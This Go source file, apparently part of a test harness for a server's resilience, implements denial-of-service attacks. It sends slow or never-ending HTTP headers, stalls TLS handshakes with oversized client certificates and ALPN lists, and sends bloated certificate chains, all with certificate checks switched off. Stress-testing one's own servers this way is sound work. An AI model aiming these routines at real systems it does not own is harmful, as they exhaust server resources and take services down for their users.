package flood

import (
	"context"
	"crypto/tls"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"strconv"
	"strings"
)

// An Attack is what each stranger does with its connection.
type Attack struct {
	How      string // headers, lines, message, handshake, hello or chain: the methods say what it is
	Bytes    int
	Secure   bool   // headers and lines: over TLS
	Protocol string // all others: by ALPN
}

// use uses a connection until it is closed, or ctx ends. It calls sent when it has sent all that it
// can, or that the other end takes.
func (a Attack) use(ctx context.Context, conn net.Conn, sent func()) {
	switch a.How {
	case "headers":
		a.headers(conn, sent)
	case "lines":
		a.lines(conn, sent)
	case "message":
		a.message(conn, sent)
	case "handshake":
		a.handshake(ctx, conn, sent)
	case "hello":
		a.hello(ctx, conn, sent)
	case "chain":
		a.chain(ctx, conn, sent)
	default:
		panic("flood: no attack is called " + a.How)
	}
}

// linger waits until the other end closes the connection.
func linger(conn net.Conn) { _, _ = io.Copy(io.Discard, conn) }

// secured returns a connection over TLS, if the attack is.
func (a Attack) secured(conn net.Conn) net.Conn {
	if !a.Secure {
		return conn
	}
	return tls.Client(conn, insecure())
}

// insecure is what an attacker says of TLS: whom it attacks does not matter to it.
func insecure(protocols ...string) *tls.Config {
	//nolint:gosec // as it says
	return &tls.Config{
		InsecureSkipVerify: true,
		NextProtos:         protocols,
	}
}

// showing is the same with a certificate.
func (a Attack) showing(certificate tls.Certificate) *tls.Config {
	config := insecure(a.Protocol)
	config.GetClientCertificate = func(*tls.CertificateRequestInfo) (*tls.Certificate, error) {
		return &certificate, nil
	}
	return config
}

// headers sends so many bytes of a request's headers, and no end of them; over TLS if secure.
func (a Attack) headers(conn net.Conn, sent func()) {
	conn = a.secured(conn)
	_, err := fmt.Fprintf(conn, "GET /metrics HTTP/1.1\r\nHost: flood\r\n")
	// many lines a write: over TLS each write is a record, which costs the attacker more than its
	// victim, and both share this machine
	lines := strings.Repeat("X-Flood: "+strings.Repeat("f", 1000)+"\r\n", 16)
	for written := 0; err == nil && written < a.Bytes; written += len(lines) {
		_, err = io.WriteString(conn, lines)
	}
	sent()
	linger(conn)
}

// lines sends so many bytes of a request's headers, in as many lines as they can be, and no end of
// them; over TLS if secure.
func (a Attack) lines(conn net.Conn, sent func()) {
	conn = a.secured(conn)
	var request strings.Builder
	request.WriteString("GET /metrics HTTP/1.1\r\n")
	for i := 0; request.Len() < a.Bytes; i++ {
		fmt.Fprintf(&request, "%s:\n", strconv.FormatInt(int64(i), 36))
	}
	_, _ = io.WriteString(conn, request.String())
	sent()
	linger(conn)
}

// message sends the beginning of a length-delimited message of so many bytes over TLS, by a
// protocol and without a certificate, and keeps back its last byte.
func (a Attack) message(conn net.Conn, sent func()) {
	conn = tls.Client(conn, insecure(a.Protocol))
	message := make([]byte, 4+a.Bytes-1)
	binary.BigEndian.PutUint32(message, uint32(a.Bytes)) //nolint:gosec // a few MiB
	_, _ = conn.Write(message)
	sent()
	linger(conn)
}

// handshake shows a certificate of so many bytes, which nobody has signed, to a server of a
// protocol, and keeps back the last of them: the handshake does not end.
func (a Attack) handshake(ctx context.Context, conn net.Conn, sent func()) {
	short := &cut{
		Conn: conn,
		left: a.Bytes,
		ctx:  ctx,
		sent: sent,
	}
	client := tls.Client(short, a.showing(tls.Certificate{
		Certificate: [][]byte{make([]byte, a.Bytes)},
		PrivateKey:  chains(1).PrivateKey, // of another one: it is never used
	}))
	_ = client.HandshakeContext(ctx)
	sent()
	linger(conn)
}

// hello begins a handshake with a list of so many bytes of protocols with the shortest names, the
// right one last, and says nothing when the server has answered it.
func (a Attack) hello(ctx context.Context, conn net.Conn, sent func()) {
	protocols := make([]string, 0, a.Bytes/2+1)
	for len(protocols) < a.Bytes/2 {
		protocols = append(protocols, "x")
	}
	client := tls.Client(deaf{conn, sent}, insecure(append(protocols, a.Protocol)...))
	_ = client.HandshakeContext(ctx)
	sent()
}

// deaf is a connection on which an answer is waited for, and not taken.
type deaf struct {
	net.Conn
	sent func()
}

func (d deaf) Read([]byte) (int, error) {
	d.sent()
	linger(d.Conn)
	return 0, io.ErrClosedPipe
}

// chain shows a server of a protocol a certificate that nobody trusted has signed, with so many
// bytes of others of the name that has signed it: the server is to try each with each.
func (a Attack) chain(ctx context.Context, conn net.Conn, sent func()) {
	client := tls.Client(conn, a.showing(chains(a.Bytes)))
	_ = client.HandshakeContext(ctx)
	sent()
	linger(conn)
}

// cut lets so many bytes pass.
type cut struct {
	net.Conn
	left int
	ctx  context.Context // it ends with the attack
	sent func()
}

func (c *cut) Write(p []byte) (int, error) {
	if len(p) <= c.left {
		c.left -= len(p)
		return c.Conn.Write(p)
	}
	if _, err := c.Conn.Write(p[:c.left]); err != nil {
		return 0, err
	}
	c.sent()
	linger(c.Conn)
	return 0, io.ErrClosedPipe
}
